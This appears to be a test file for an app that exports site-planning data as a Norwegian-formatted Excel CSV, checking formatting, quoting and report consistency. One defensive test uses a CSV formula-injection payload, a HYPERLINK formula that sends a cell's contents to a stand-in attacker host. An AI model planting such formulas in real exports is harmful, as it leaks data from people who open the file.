// The Excel CSV: BOM, ';', decimal comma, CRLF, quoting, the formula guard, and the report CLI's numbers for the
// bundled data.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadBundledDataset } from '../../../src/app/defaultData';
import {
  decimalComma,
  EXCEL_COLUMNS,
  formatExcelCsv,
  guardFormula,
  quoteField,
} from '../../../src/domain/exportCsvExcel';
import { siteRows } from '../../../src/domain/siteRows';
import { excelWords } from '../../../src/i18n/excel';
import { fitReasonText } from '../../../src/i18n/fit';
import { commaNumber, parseExcelCsv } from './csvParse';
import { handRow, reportJsonSites, type ReportJsonSite } from './rowFixture';

const NB = excelWords('nb');

const col = (header: string): number => {
  const i = EXCEL_COLUMNS.findIndex((c) => NB.header[c.key] === header);
  if (i < 0) throw new Error(`no column ${header}`);
  return i;
};

describe('formatExcelCsv: the file format a Norwegian Excel opens', () => {
  const text = formatExcelCsv([handRow()], NB);

  it('starts with a UTF-8 BOM, then the Norwegian header joined by semicolons', () => {
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const header = text.slice(1).split('\r\n')[0];
    expect(header).toBe(EXCEL_COLUMNS.map((c) => NB.header[c.key]).join(';'));
    expect(header?.startsWith('ID;Navn;Status;ABC-type;Planstatus;Ledig;Region;Areal (m²);Areal (daa)')).toBe(true);
    // The BOM is one code point, so in UTF-8 the file begins EF BB BF.
    expect([...new TextEncoder().encode(text).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('ends every line, the last too, with CRLF and has no bare LF', () => {
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(parseExcelCsv(text.slice(1))).toHaveLength(2);
  });

  it('writes numbers with a decimal comma, the report rounding and no digit grouping', () => {
    const [, row] = parseExcelCsv(text.slice(1));
    expect(row?.[col('Areal (m²)')]).toBe('12345,68');
    expect(row?.[col('Areal (daa)')]).toBe('12,346');
    expect(row?.[col('Avstand til knutepunkt fra kant (m)')]).toBe('1234,50');
    expect(row?.[col('Avstand til knutepunkt fra midtpunkt (m)')]).toBe('1300,00');
    // Jobs are whole: 10.5 → 11 (half away from zero, as the report), 20.49 → 20.
    expect(
      [
        col('Kapasitet ferdig utbygd lav'),
        col('Kapasitet ferdig utbygd middels'),
        col('Kapasitet ferdig utbygd høy'),
      ].map((i) => row?.[i]),
    ).toEqual(['11', '20', '40']);
    // A future site: no jobs today, so its new jobs are its capacity, printed the same way.
    expect([col('Arbeidsplasser i dag'), col('Arbeidsplasser i dag, kilde')].map((i) => row?.[i])).toEqual([
      '0',
      'fremtidig areal',
    ]);
    expect(
      [col('Nye arbeidsplasser lav'), col('Nye arbeidsplasser middels'), col('Nye arbeidsplasser høy')].map(
        (i) => row?.[i],
      ),
    ).toEqual(['11', '20', '40']);
    expect(row?.[col('Ledig fra år')]).toBe('2030');
    expect(row?.[col('Midtpunkt lengdegrad')]).toBe('10,412346');
    expect(row?.[col('Ledig')]).toBe('ja');
    // The verdict in the label form of every surface (src/i18n/fit.ts), the reason as the UI gives it.
    expect(row?.[col('ABC-vurdering')]).toBe('Passer delvis');
    expect(row?.[col('Begrunnelse')]).toBe(fitReasonText(handRow().fit, 'nb'));
    expect(row?.[col('Begrunnelse')]).toContain('1,2 km fra nærmeste togstasjon (Røyken stasjon)');
    expect(decimalComma(0.5, 0)).toBe('1');
    expect(decimalComma(1234567.891, 2)).toBe('1234567,89');
  });

  it('takes every word from the catalogue: English headers, yes/no and the jobs-today source follow the language', () => {
    const en = excelWords('en');
    const [header, row] = parseExcelCsv(formatExcelCsv([handRow()], en).slice(1));
    expect(header?.slice(0, 9)).toEqual([
      'ID',
      'Name',
      'Status',
      'ABC type',
      'Plan status',
      'Available',
      'Region',
      'Area (m²)',
      'Area (daa)',
    ]);
    expect(row?.[header?.indexOf('Available') ?? -1]).toBe('yes');
    expect(en.jobsTodaySource('data', 'ansatte')).toBe('from the data (ansatte)');
    expect(NB.jobsTodaySource('data', 'ansatte')).toBe('fra data (ansatte)');
    expect(NB.jobsTodaySource('estimate', undefined)).toBe('anslag (areal ÷ m² per arbeidsplass i dag)');
    expect(new Set(EXCEL_COLUMNS.map((c) => en.header[c.key])).size).toBe(EXCEL_COLUMNS.length);
  });

  it('writes the fit words the caller passes in, quoted like any text', () => {
    const words = { ...NB, verdict: () => 'dom; med semikolon', reason: () => '=grunn' };
    const [, row] = parseExcelCsv(formatExcelCsv([handRow()], words).slice(1));
    expect(row?.[col('ABC-vurdering')]).toBe('dom; med semikolon');
    expect(row?.[col('Begrunnelse')]).toBe("'=grunn");
  });

  it('leaves the road columns empty without a loaded road layer, and fills them from one', () => {
    const [, none] = parseExcelCsv(text.slice(1));
    expect([none?.[col('Nærmeste hovedvei')], none?.[col('Avstand til hovedvei (m)')]]).toEqual(['', '']);
    const withRoad = formatExcelCsv(
      [handRow({ road: { distanceM: 1234.567, label: 'E18', kind: 'line', file: 'veg.geojson' } })],
      NB,
    );
    const [, row] = parseExcelCsv(withRoad.slice(1));
    expect([row?.[col('Nærmeste hovedvei')], row?.[col('Avstand til hovedvei (m)')]]).toEqual(['E18', '1234,57']);
    // A road without a name or number is named by its file.
    const unnamed = formatExcelCsv(
      [handRow({ road: { distanceM: 0, label: null, kind: 'point', file: 'kryss.geojson' } })],
      NB,
    );
    expect(parseExcelCsv(unnamed.slice(1))[1]?.[col('Nærmeste hovedvei')]).toBe('(kryss.geojson)');
  });

  it('quotes a field with a semicolon, a quote or a line break, and leaves empty values empty', () => {
    expect(quoteField('a;b')).toBe('"a;b"');
    expect(quoteField('Sjøgata "Nord"')).toBe('"Sjøgata ""Nord"""');
    expect(quoteField('to\nlinjer')).toBe('"to\nlinjer"');
    expect(quoteField('a,b')).toBe('a,b');
    const noHub = formatExcelCsv(
      [handRow({ hub: null, hubCentroidDistanceM: null, nearestByType: {}, region: null })],
      NB,
    );
    const [, row] = parseExcelCsv(noHub.slice(1));
    expect(row?.[col('Nærmeste knutepunkt')]).toBe('');
    expect(row?.[col('Avstand til togstasjon (m)')]).toBe('');
    expect(row?.[col('Region')]).toBe('');
  });

  it('neutralises text a spreadsheet would run as a formula, and only that', () => {
    for (const evil of ['=1+1', '+47 999', '-2', '@SUM(A1)', '\t=1', '\r=1'])
      expect(guardFormula(evil)).toBe(`'${evil}`);
    for (const fine of ['Asker', 'a=b', ' =1', '1-2', '']) expect(guardFormula(fine)).toBe(fine);
    const hostile = formatExcelCsv(
      [handRow({ id: '-S1', name: '=HYPERLINK("http://evil.example/?"&A1;"Klikk")', region: '@region' })],
      NB,
    );
    const [, row] = parseExcelCsv(hostile.slice(1));
    expect(row?.[col('ID')]).toBe("'-S1");
    expect(row?.[col('Navn')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1;"Klikk")`);
    expect(row?.[col('Region')]).toBe("'@region");
    // The raw text has the apostrophe inside the quotes, so no cell of the file starts with '='.
    expect(hostile).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1;""Klikk"")";`);
    expect(hostile.split(/[;\r\n]/).some((cell) => /^"?[=+@]/.test(cell))).toBe(false);
  });
});

describe('formatExcelCsv on the bundled data: the same numbers as `npm run report -- --format json`', () => {
  let report: ReportJsonSite[];
  let rows: string[][];

  beforeAll(async () => {
    report = await reportJsonSites();
    // The app's path: the bundled files through the app's loader and engine, then the shared rows.
    const dataset = loadBundledDataset();
    const [, ...body] = parseExcelCsv(
      formatExcelCsv(siteRows(dataset.sites, dataset.results, dataset.hubs), NB).slice(1),
    );
    rows = body;
  });

  it('has one line per site, in the report order', () => {
    expect(report).toHaveLength(34);
    expect(rows.map((r) => r[col('ID')])).toEqual(report.map((s) => s.id));
  });

  it('every figure equals the report JSON value', () => {
    for (const [i, s] of report.entries()) {
      const r = rows[i] as string[];
      const n = (header: string) => commaNumber(r[col(header)] as string);
      expect(r[col('Navn')], s.id).toBe(s.name);
      expect(r[col('Region')], s.id).toBe(s.region ?? '');
      expect(n('Areal (m²)'), s.id).toBe(s.area_m2);
      expect(n('Areal (daa)'), s.id).toBe(s.area_daa);
      expect(n('Avstand til knutepunkt fra kant (m)'), s.id).toBe(s.hub_distance_m);
      expect(n('Avstand til knutepunkt fra midtpunkt (m)'), s.id).toBe(s.hub_centroid_distance_m);
      expect(n('Avstand til togstasjon (m)'), s.id).toBe(s.nearest_by_type.tog?.distance_m ?? null);
      expect(r[col('Nærmeste togstasjon')], s.id).toBe(s.nearest_by_type.tog?.hub_name ?? '');
      expect(
        [n('Kapasitet ferdig utbygd lav'), n('Kapasitet ferdig utbygd middels'), n('Kapasitet ferdig utbygd høy')],
        s.id,
      ).toEqual([s.jobs_low, s.jobs_mid, s.jobs_high]);
      expect(
        [
          n('Arbeidsplasser i dag'),
          n('Nye arbeidsplasser lav'),
          n('Nye arbeidsplasser middels'),
          n('Nye arbeidsplasser høy'),
        ],
        s.id,
      ).toEqual([s.jobs_today, s.new_jobs_low, s.new_jobs_mid, s.new_jobs_high]);
      expect(r[col('Tilgjengelighetsklasse')], s.id).toBe(s.abc_access);
      expect([n('Midtpunkt lengdegrad'), n('Midtpunkt breddegrad')], s.id).toEqual([s.centroid_lon, s.centroid_lat]);
    }
  });

  it('hand-checked: S21 Bjørnstad is 199,2 daa and S03 (with its hole) 56,5 daa, as geodata/README.md lists', () => {
    const byId = new Map(rows.map((r) => [r[col('ID')], r]));
    const daa = (id: string) => commaNumber(byId.get(id)?.[col('Areal (daa)')] ?? '') ?? Number.NaN;
    expect(daa('S21').toFixed(1)).toBe('199.2');
    expect(daa('S03').toFixed(1)).toBe('56.5');
    expect(byId.get('S01')?.[col('Ledig')]).toBe('nei');
    expect(byId.get('S21')?.[col('Ledig')]).toBe('ja');
  });
});
